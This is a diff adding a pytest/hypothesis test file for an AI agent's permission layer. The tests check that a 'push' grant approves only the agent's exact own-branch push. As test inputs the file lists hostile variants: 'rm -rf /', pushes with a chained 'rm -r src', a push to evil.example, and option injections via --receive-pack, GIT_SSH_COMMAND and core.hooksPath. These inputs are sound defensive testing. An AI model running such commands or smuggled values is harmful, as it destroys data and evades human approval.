@@ -1,0 +1,150 @@
+"""What is published is asked for unless the run was granted it, and a grant opens nothing else."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agent.policy.deciding import decide
+from agent.policy.grants import OWN_BRANCH, is_own_push, push_text, with_grants
+from agent.policy.model import Policy, PolicyFile, Rule
+from agent.protocol.actions import OpenPullRequest
+from agent.protocol.decisions import Proposal, RiskContext, Verdict
+from agent.protocol.requests import Approval
+from agent.risk.classifier import classify
+from agent.risk.file_actions import rate_action
+
+PUSH = push_text("origin", "agent/task-10")
+CONTEXT = RiskContext(cwd="/home/me/w", home="/home/me", workspace="/home/me/w")
+OTHERS = (
+    "git push origin main",
+    "git push",
+    "git push --force origin agent/task-10",
+    "git push --set-upstream -- origin +refs/heads/agent/task-10:refs/heads/agent/task-10",
+    "git push --set-upstream -- origin refs/heads/agent/task-10:refs/heads/main",
+    "git push --set-upstream -- origin refs/heads/main:refs/heads/agent/task-10",
+    "git push --set-upstream -- origin :refs/heads/agent/task-10",
+    "git push --set-upstream -- origin refs/heads/main:refs/heads/main",
+    "git push --set-upstream -- https://evil.example/x refs/heads/agent/task-10:refs/heads/agent/task-10",
+    "git push --set-upstream -- --receive-pack=x refs/heads/agent/task-10:refs/heads/agent/task-10",
+    f"{PUSH} ",
+    f" {PUSH}",
+    f"{PUSH}; rm -r src",
+    f"{PUSH}\nrm -r src",
+    f"{PUSH} refs/heads/main",
+    f"GIT_SSH_COMMAND=x {PUSH}",
+    f"sudo {PUSH}",
+    f"cd /other && {PUSH}",
+    PUSH.replace("task-10", "task-10;x"),
+    PUSH.replace("task-10", "task-010"),
+    PUSH.replace("git ", "git -c core.hooksPath=x "),
+    PUSH.replace("git", "./git"),
+    "rm -rf /",
+    "gh pr create --fill",
+    "ls",
+)
+
+
+def verdict_of(text: str, approval: Approval, *, grant: str = "push", rules: tuple[Rule, ...] = ()) -> Verdict:
+    report = classify(text, CONTEXT)
+    policy = Policy(files=(PolicyFile(path="/p.toml", trust="user", rules=rules),))
+    return with_grants(
+        decide(report, approval, policy=policy), report, Proposal(command_id="1", command=text, grant=grant), approval
+    )
+
+
+def plain(text: str, approval: Approval) -> Verdict:
+    return decide(classify(text, CONTEXT), approval)
+
+
+@pytest.mark.parametrize("mode", ["ask", "low", "medium"])
+def test_a_push_is_asked_for_in_every_mode_unless_it_was_granted(mode: str) -> None:
+    for grants in ((), ("pull-request",), None):
+        assert verdict_of(PUSH, Approval(mode=mode, grants=grants)).action == "ask"
+    granted = verdict_of(PUSH, Approval(mode=mode, grants=("push",)))
+    assert (granted.action, granted.rule) == ("allow", "grant-push")
+
+
+def test_pushes_are_what_they_are_called_or_not() -> None:
+    approval = Approval(mode="medium", grants=())
+    for text in ("git push origin main", "gh pr create --fill", "git push -u -- origin x:x"):
+        assert plain(text, approval).action == "allow"
+        assert verdict_of(text, approval, grant="").action == "ask"
+        assert verdict_of(text, Approval(mode="medium"), grant="").action == "allow"  # no run of the agent's
+    assert verdict_of("ls", approval, grant="").action == "allow"
+    assert verdict_of("git commit -m x", approval, grant="").action == "allow"
+
+
+@pytest.mark.parametrize("text", OTHERS)
+def test_a_grant_is_for_no_other_command(text: str) -> None:
+    approval = Approval(mode="medium", grants=("push", "pull-request"))
+    assert not is_own_push(text)
+    for grant in ("push", "pull-request", "all", "Push"):
+        assert verdict_of(text, approval, grant=grant).action != "allow"
+
+
+def test_an_edited_push_is_another_command() -> None:
+    approval = Approval(grants=("push",))
+    report = classify(PUSH, CONTEXT)
+    proposal = Proposal(command_id="1", command="git status", grant="push")
+    assert with_grants(decide(report, approval), report, proposal, approval).action == "ask"
+
+
+@pytest.mark.parametrize("action", ["deny", "ask", "type"])
+def test_a_grant_opens_nothing_that_a_rule_of_the_person_says(action: str) -> None:
+    rule = Rule(name="r", action=action, program=("git",), words=(("push",),))  # type: ignore[arg-type]
+    found = verdict_of(PUSH, Approval(mode="medium", grants=("push",)), rules=(rule,))
+    assert found.action == {"deny": "refuse"}.get(action, action) and found.rule == "p.toml:r"
+
+
+def test_a_policy_that_cannot_be_read_still_asks() -> None:
+    report = classify(PUSH, CONTEXT)
+    policy = Policy(files=(PolicyFile(path="/p.toml", trust="user", error="broken"),))
+    approval = Approval(mode="medium", grants=("push",))
+    proposal = Proposal(command_id="1", command=PUSH, grant="push")
+    assert with_grants(decide(report, approval, policy=policy), report, proposal, approval).action == "ask"
+
+
+WORDS = st.one_of(
+    st.sampled_from(["git", "push", "--set-upstream", "--force", "-f", "--", "origin", "refs/heads/agent/task-1", "+", ":",
+                     "refs/heads/agent/task-1:refs/heads/agent/task-1", "main", ";", "&&", "|", "$(x)", "'", '"', "\\", "\n", "#", "~"]),
+    st.text(max_size=6),
+)  # fmt: skip
+
+
+@given(st.lists(WORDS, max_size=9), st.sampled_from([" ", "", "  ", "\t"]), st.sampled_from(["ask", "low", "medium"]))
+def test_no_other_text_is_opened_by_a_grant(words: list[str], between: str, mode: str) -> None:
+    text = between.join(words)
+    approval = Approval(mode=mode, grants=("push", "pull-request"))
+    before, after = plain(text, approval), verdict_of(text, approval)
+    if not is_own_push(text):
+        assert after.action != "allow"
+        assert after.action == before.action or before.action == "allow"
+
+
+@given(st.text(max_size=30), st.text(max_size=30))
+def test_whatever_is_an_own_push_is_one_to_the_letter(remote: str, branch: str) -> None:
+    text = push_text(remote, branch)
+    if is_own_push(text):
+        assert (
+            OWN_BRANCH.fullmatch(branch)
+            and text == f"git push --set-upstream -- {remote} refs/heads/{branch}:refs/heads/{branch}"
+        )
+        assert "+" not in text and not remote.startswith("-")
+
+
+def opened(approval: Approval, *rules: Rule) -> Verdict:
+    action = OpenPullRequest(root="/r", where="github.com/a/b", branch="agent/task-1", base="main", title="t", body="b")
+    report = rate_action(action, CONTEXT)
+    policy = Policy(files=(PolicyFile(path="/p.toml", trust="user", rules=rules),))
+    proposal = Proposal(command_id="1", command=report.command, origin="tool", grant="pull-request")
+    return with_grants(decide(report, approval, policy=policy), report, proposal, approval)
+
+
+def test_a_pull_request_has_a_grant_of_its_own() -> None:
+    assert opened(Approval(mode="medium")).action == "ask"
+    assert opened(Approval(mode="medium", grants=("push",))).action == "ask"
+    assert opened(Approval(grants=("pull-request",))).action == "allow"
+    rule = Rule(name="r", action="deny", program=("open_pull_request",))
+    assert opened(Approval(grants=("pull-request",)), rule).action == "refuse"
